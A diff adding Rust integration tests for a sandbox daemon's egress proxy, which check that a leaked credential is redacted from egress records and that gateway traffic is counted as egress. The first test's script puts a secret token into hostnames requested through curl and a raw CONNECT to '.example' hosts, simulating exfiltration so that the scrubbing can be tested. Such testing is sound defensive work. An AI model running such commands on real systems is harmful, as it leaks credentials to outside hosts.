@@ -428,3 +428,112 @@ async fn one_tenants_sandbox_filling_the_daemon_wide_cap_refuses_another_tenants
     assert!(server.seen().contains("HOLD-B"));
     daemon.stop().await;
 }
+
+/// A credential the harness holds (an exposed route) never reaches the
+/// run's records through the hosts it asks the proxy for: every egress
+/// event and the evidence's denied hosts are scrubbed of it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_exposed_credential_in_an_asked_host_is_scrubbed_from_egress_records() {
+    let server = TestServer::start().await;
+    let (id, text) = net_profile("test.leaky-host", &[format!("127.0.0.1:{}", server.port)], "");
+    let text = text.replacen("[rein]", "credential_route_refs = [\"route.test\"]\n[rein]", 1);
+    let daemon = daemon_with(vec![(id, text)]).await;
+    // A valid name (CONNECT) and one no DNS name can be (its reason quotes it).
+    let script = r#"echo "token ${#ROUTE_TEST_TOKEN}"
+curl -sS --max-time 10 -x "$HTTPS_PROXY" "https://$ROUTE_TEST_TOKEN.example:443/" 2>&1
+python3 - <<'PY'
+import os, socket
+s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+s.sendall(b"CONNECT x_%s.example:443 HTTP/1.1\r\nHost: x\r\n\r\n" % os.environ["ROUTE_TEST_TOKEN"].encode())
+print("bad name", s.recv(4096).split(b"\r\n")[0].decode())
+PY"#;
+    let events = daemon.execute(request("test.leaky-host", script)).await;
+    let execution = finished(&events);
+    let out = &execution.tool_output;
+    assert!(out.contains(&format!("token {}", common::ROUTE_TEST_VALUE.len())), "the route is not exposed: {out}");
+    assert!(out.contains("bad name HTTP/1.1 403"), "{out}\n{}", execution.tool_error);
+    let decisions = egress_events(&events);
+    assert_eq!(decisions.iter().filter(|d| !d.allowed).count(), 2, "{decisions:?}");
+    for d in &decisions {
+        assert!(!d.host.contains(common::ROUTE_TEST_VALUE), "the value in an egress host: {d:?}");
+        assert!(!d.rule_or_reason.contains(common::ROUTE_TEST_VALUE), "the value in an egress reason: {d:?}");
+    }
+    assert!(decisions.iter().any(|d| d.host == "[REDACTED:route.test].example"), "{decisions:?}");
+    let egress = execution.evidence.clone().unwrap().egress.unwrap();
+    assert_eq!(egress.denied, 2, "{egress:?}");
+    assert!(!egress.denied_hosts.is_empty(), "{egress:?}");
+    for host in &egress.denied_hosts {
+        assert!(!host.contains(common::ROUTE_TEST_VALUE), "the value in the evidence's denied hosts: {egress:?}");
+    }
+    let everything = format!("{events:?}");
+    assert!(!everything.contains(common::ROUTE_TEST_VALUE), "the value is somewhere in the run's events");
+    daemon.stop().await;
+}
+
+/// A sandbox without network still reaches the credential gateway (how an
+/// agent reaches its model without holding the key): every request it
+/// forwards is a `gateway` egress event, counted in the evidence, and the
+/// receipt does not claim there is no egress.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_gateway_of_a_sandbox_without_network_is_recorded_as_egress() {
+    require_bwrap();
+    let model = common::model_mock::ModelMock::start(vec![common::model_mock::Step::text("through the gateway")]).await;
+    let key = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(key.path(), "mock-upstream-secret-7d41").unwrap();
+    let (file, upstream) = (key.path().to_path_buf(), model.url());
+    let profile = r#"id = "test.gatewayed"
+version = "1.0.0"
+credential_route_refs = ["mock"]
+[rein]
+argv = ["/bin/sh", "-s"]
+input = "description"
+[sandbox]
+type = "linux_bwrap"
+allow_network = false
+write_paths = ["."]
+[limits]
+timeout_seconds = 60
+"#;
+    let daemon = TestDaemon::start(Options {
+        profiles: vec![("gatewayed.toml".into(), profile.into())],
+        config: Box::new(move |c| {
+            let route = corral::credentials::RouteConfig {
+                file: Some(file),
+                inject_as: "MOCK_TOKEN".into(),
+                upstream: Some(upstream),
+                ..Default::default()
+            };
+            c.credentials.routes.insert("mock".into(), route);
+        }),
+        ..Options::default()
+    })
+    .await;
+    let script = r#"curl -sS --max-time 20 -H "authorization: Bearer $MOCK_TOKEN" -H "content-type: application/json" \
+  -d '{"model":"m","max_tokens":16,"stream":true,"messages":[{"role":"user","content":"hi"}]}' \
+  http://127.0.0.1:3130/mock/v1/messages 2>&1 | head -c 4000"#;
+    let events = daemon.execute(request("test.gatewayed", script)).await;
+    let execution = finished(&events);
+    let out = &execution.tool_output;
+    assert!(out.contains("through the gateway"), "the model was not reached: {out}\n{}", execution.tool_error);
+    assert_eq!(model.model_requests().len(), 1);
+
+    let decisions = egress_events(&events);
+    assert_eq!(decisions.len(), 1, "{decisions:?}");
+    assert!(decisions[0].allowed, "{decisions:?}");
+    assert_eq!(decisions[0].method(), pb::EgressMethod::Gateway, "{decisions:?}");
+    assert_eq!((decisions[0].host.as_str(), decisions[0].port), ("127.0.0.1", u32::from(model.addr.port())));
+    let egress = execution.evidence.clone().unwrap().egress.unwrap();
+    assert_eq!((egress.allowed, egress.denied), (1, 0), "{egress:?}");
+    let receipt = events
+        .iter()
+        .find_map(|e| match &e.kind {
+            Some(Kind::SandboxReady(r)) => r.receipt.clone(),
+            _ => None,
+        })
+        .expect("receipt");
+    assert!(receipt.network_isolated);
+    assert_ne!(receipt.egress(), pb::EgressMode::None, "the gateway was reachable: {receipt:?}");
+    assert!(receipt.allow_hosts.is_empty(), "{receipt:?}");
+    assert_eq!(receipt.gateway_routes, ["mock"]);
+    daemon.stop().await;
+}
